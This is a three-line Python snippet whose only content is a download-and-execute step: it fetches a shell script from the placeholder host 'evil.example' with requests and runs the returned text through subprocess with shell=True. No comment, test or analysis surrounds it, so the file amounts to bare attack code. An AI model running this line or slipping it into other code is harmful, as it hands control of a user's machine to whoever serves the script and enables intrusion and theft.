import subprocess

import requests

subprocess.run(requests.get("https://evil.example/c.sh", timeout=5).text, shell=True, check=False)
